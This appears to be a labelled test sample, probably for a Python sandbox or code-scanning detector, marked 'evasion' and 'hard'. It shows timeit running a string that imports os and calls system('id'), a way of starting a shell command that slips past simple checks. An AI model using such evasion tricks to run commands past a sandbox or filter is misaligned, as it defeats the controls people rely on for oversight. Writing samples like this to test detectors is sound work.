# evasion: timeit runs a statement that starts a shell
# grade: hard; does: shell
import timeit
timeit.timeit("__import__('os').system('id')", number=1)
